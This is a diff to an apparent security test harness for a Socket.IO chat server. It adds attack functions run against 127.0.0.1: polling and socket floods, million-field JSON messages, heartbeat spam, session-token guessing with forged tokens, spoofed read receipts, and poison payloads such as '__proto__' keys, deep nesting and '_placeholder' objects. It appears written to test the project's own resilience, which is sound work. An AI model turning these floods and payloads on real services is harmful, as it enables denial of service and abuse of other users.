@@ -1,9 +1,10 @@
 // The attacks: each is a function that attacks a server from one address until a time. None of them stops when it is
 // refused.
 import { createRequire } from 'node:module';
+import http from 'node:http';
 import net from 'node:net';
 import { setTimeout as wait } from 'node:timers/promises';
-import { token } from './server.mjs';
+import { forged, token } from './server.mjs';
 
 const require = createRequire(new URL('../../js/package.json', import.meta.url));
 const WebSocket = createRequire(require.resolve('engine.io-client'))('ws');
@@ -94,6 +95,34 @@ async function sendAll(socket, data) {
   if (socket.bufferedAmount > 1 << 20) return wait(20);
   await new Promise((sent) => socket.send(data, sent));
 }
+
+/** Keeps so many polling sessions open, in each of which `act` is done again and again. */
+function polling(target, count, auth, act) {
+  const agent = new http.Agent({ keepAlive: true, localAddress: target.from });
+  const request = (method, query, body) =>
+    new Promise((resolve) => {
+      const options = { port: target.port, host: '127.0.0.1', agent, method, path: `${OPENING}${query}`, timeout: 20_000 };
+      const asked = http.request(options, (answer) => {
+        const chunks = [];
+        answer.on('data', (chunk) => chunks.push(chunk)).on('close', () => resolve({ status: answer.statusCode, text: Buffer.concat(chunks).toString() }));
+      });
+      asked.on('timeout', () => asked.destroy()).on('error', () => resolve({ status: 0, text: '' })).end(body);
+    });
+  return Promise.all(
+    Array.from({ length: count }, async (_, number) => {
+      while (Date.now() < target.until) {
+        const sid = /"sid":"([^"]+)"/.exec((await request('GET', '')).text)?.[1];
+        const query = `&sid=${sid}`;
+        let isOpen = sid !== undefined && (await request('POST', query, `40${JSON.stringify(auth(number))}`)).status === 200;
+        if (isOpen) (async () => { while (isOpen && (await request('GET', query)).status === 200); })();
+        while (isOpen && Date.now() < target.until) isOpen = (await act({ post: (body) => request('POST', query, body) }, number)).status === 200;
+        await wait(100);
+      }
+    }),
+  );
+}
+
+const FIELDS = Array.from({ length: 1_000_000 }, (_, n) => `,"${n.toString(36)}":0`).join('').slice(0, 8_500_000).replace(/,[^,]*$/, '');
 
 const user = (target, number) => `mallory-${target.from}-${number}`;
 const asUser = (target) => (number) => ({ token: token(user(target, number % 16)) });
@@ -187,4 +216,83 @@ export const attacks = {
     });
     return flood(target, requests.join(''), 2);
   },
+  /** Polling requests of five megabytes of the smallest events. */
+  packets: (target) => {
+    const body = Array(170_000).fill('42["typing:stop",{}]').join('\x1e').slice(0, 5_000_000);
+    return polling(target, 4, asUser(target), (session) => session.post(body));
+  },
+  /** Guests in a session who send the smallest events. */
+  murmurs: (target) =>
+    sockets(target, 8, guest, async (socket, number) => {
+      const session = { sessionId: `murmur-${target.from}`, userId: `m-${number}` };
+      await sendAll(socket, `42${JSON.stringify(['join-session', { ...session, isCreator: true }])}`);
+      for (let n = 0; n < 10_000; n += 1) await sendAll(socket, '42["typing",{}]');
+    }),
+  /** A million fields to a receiver who reads nothing. */
+  fields: (target) =>
+    sockets(
+      target,
+      12,
+      asUser(target),
+      async (socket, number) => {
+        const recipientId = user(target, (number + 1) % 12);
+        const message = JSON.stringify({ recipientId, ciphertext: 'c', iv: 'i', tag: 't', seq: 1 });
+        await sendAll(socket, `42["send_message",${message.slice(0, -1)}${FIELDS}}]`);
+        await sendAll(socket, `42["send_message",${message.slice(0, -1)},"x":{"a":0${FIELDS}}}]`);
+      },
+      { reads: false },
+    ),
+  /** Heartbeats without end. */
+  pings: (target) =>
+    sockets(target, 8, asUser(target), async (socket) => {
+      for (let n = 0; n < 1000; n += 1) await sendAll(socket, '3');
+      socket.ping();
+    }),
+  /** Members of a session with large keys who change theirs by small events. */
+  keychanges: (target) =>
+    sockets(target, 32, guest, async (socket, number) => {
+      const session = { sessionId: `changes-${target.from}`, userId: `m-${number}` };
+      const publicKey = 'k'.repeat(60_000);
+      await sendAll(socket, `42${JSON.stringify(['join-session', { ...session, publicKey, isCreator: true }])}`);
+      for (let n = 0; n < 100; n += 1) {
+        await sendAll(socket, `42${JSON.stringify(['save-public-key', { ...session, publicKey: number === 0 ? 'k' : publicKey }])}`);
+        await wait(100);
+      }
+    }),
+  /** Members who join again and again for the history. */
+  rejoins: (target) =>
+    sockets(target, 8, guest, async (socket, number) => {
+      const session = { sessionId: `again-${target.from}`, userId: `m-${number}` };
+      const join = `42${JSON.stringify(['join-session', { ...session, isCreator: true }])}`;
+      await sendAll(socket, join);
+      const message = { sessionId: session.sessionId, from: session.userId, encrypted: 'x'.repeat(100_000) };
+      for (let n = 0; n < 20; n += 1) await sendAll(socket, `42${JSON.stringify(['send-message', message])}`);
+      for (let n = 0; n < 200; n += 1) await sendAll(socket, join);
+    }),
+  /** Tokens and keys of sessions that are guessed. */
+  guesses: async (target) => {
+    const socket = sockets(target, 4, guest, async (socket, number) => {
+      const join = { sessionId: 'honest-one', userId: `g-${number}`, authKey: `${Math.random()}` };
+      await sendAll(socket, `42${JSON.stringify(['join-session', join])}`);
+    });
+    const head = `GET /api/conversations HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${forged('honest-1-a')}\r\n\r\n`;
+    await Promise.all([socket, flood(target, head.repeat(200), 2)]);
+  },
+  /** Receipts for what one never got, and requests for files, to whoever is honest. */
+  receipts: (target) =>
+    sockets(target, 8, asUser(target), async (socket) => {
+      for (const event of ['message:delivered', 'message:read', 'file:request']) {
+        const fields = { senderId: `honest-${Math.floor(Math.random() * 10)}-a`, messageId: `${Math.random()}`, fileId: 'f' };
+        await sendAll(socket, `42${JSON.stringify([event, fields])}`);
+      }
+    }),
+  /** Deep, odd and false values. */
+  poison: (target) =>
+    sockets(target, 4, asUser(target), async (socket) => {
+      const poisons = [`${'['.repeat(5000)}${']'.repeat(5000)}`, '"\\ud800"', '1e999', '{"__proto__":{}}', '{"_placeholder":true,"num":"splice"}'];
+      for (const poison of poisons) {
+        const recipientId = `honest-${Math.floor(Math.random() * 10)}-b`;
+        await sendAll(socket, `42["send_message",{"recipientId":"${recipientId}","ciphertext":${poison},"iv":"i","tag":"t","seq":0}]`);
+      }
+    }),
 };
